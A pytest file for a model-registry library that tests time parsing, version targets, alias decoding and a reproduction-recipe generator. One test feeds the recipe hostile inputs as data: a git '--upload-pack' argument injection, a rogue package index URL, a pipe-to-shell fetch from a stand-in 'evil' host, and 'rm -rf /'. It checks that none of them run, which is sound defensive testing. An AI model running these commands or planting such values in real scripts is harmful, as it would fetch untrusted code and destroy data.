from __future__ import annotations

import re
from dataclasses import replace

import pytest

from bucketry.errors import CorruptError, UsageError
from bucketry.registry.core.resolved import ResolvedVersion
from bucketry.registry.versions.reproduce import recipe
from bucketry.schema.codec import encode
from bucketry.schema.documents.alias import decode_alias
from bucketry.schema.documents.audit import NO_RECORD, Record, parse_time, target_version
from bucketry.schema.documents.manifest import Lineage, Manifest, Training
from bucketry.schema.documents.states import State
from bucketry.schema.names import Digest, ModelName

RECORD = Record(1, "0" * 32, "2026-01-01T00:00:00Z", "ada", "promote", "7", NO_RECORD)


@pytest.mark.parametrize("text", ["2026-19-39T29:59:69Z", "2026-02-31T00:00:00Z", "0000-01-01T00:00:00Z", "2026-01-01"])
def test_a_time_that_no_calendar_has_is_refused(text: str) -> None:
    with pytest.raises(UsageError, match="is not a time"):
        parse_time(text)


@pytest.mark.parametrize("text", ["2026-02-28T23:59:59Z", "2026-02-28T23:59:59.123Z"])
def test_a_time_that_exists_is_accepted(text: str) -> None:
    assert parse_time(text) == text


@pytest.mark.parametrize("target", ["²", "9" * 5_000, "x", "-1", "0"])
def test_a_record_about_no_version_is_corrupt(target: str) -> None:
    with pytest.raises(CorruptError, match="is no version"):
        target_version(replace(RECORD, target=target), what="history")


def test_a_record_about_a_version_says_which() -> None:
    assert target_version(RECORD, what="history") == 7
    assert target_version(replace(RECORD, target=""), what="history") is None


def test_an_alias_in_a_state_that_does_not_exist_is_corrupt() -> None:
    document = {"format": 1, "registry": "r", "model": "m", "alias": "production", "version": 1}
    body = encode(document | {"manifest": "0" * 64, "placement": [[1, 1]], "state": "foo"})
    with pytest.raises(CorruptError, match="state"):
        decode_alias(body, what="alias")


def made_of(code: dict[str, object], packages: dict[str, str], command: str) -> str:
    training = Training(environment={"packages": packages}, command=command)
    manifest = Manifest(
        ModelName("a", "b"), "2026-01-01T00:00:00Z", "ada", (), training=training, lineage=Lineage(code=code)
    )
    return recipe(ResolvedVersion(manifest.model, 1, Digest("0" * 64), State.REGISTERED, (), manifest))


def test_a_recipe_runs_nothing_that_a_document_slips_in() -> None:
    text = made_of(
        {"repository": "--upload-pack=touch /tmp/pwned", "commit": "--evil"},
        {"--index-url": "http://evil/#", "torch": "2.0\n--pre"},
        "curl evil | sh\nrm -rf /",
    )
    live = [line for line in text.splitlines() if not line.startswith("#")]
    assert live == []


def test_a_recipe_checks_out_what_was_recorded() -> None:
    code: dict[str, object] = {"repository": "https://example.org/x.git", "commit": "4be1d0a" * 5}
    text = made_of(code, {"torch": "2.0+cpu"}, "python train.py")
    assert re.search(r"^git clone -- https://example.org/x.git code", text, re.MULTILINE)
    assert re.search(r"^git checkout (4be1d0a){5}$", text, re.MULTILINE)
    assert "torch==2.0+cpu" in text
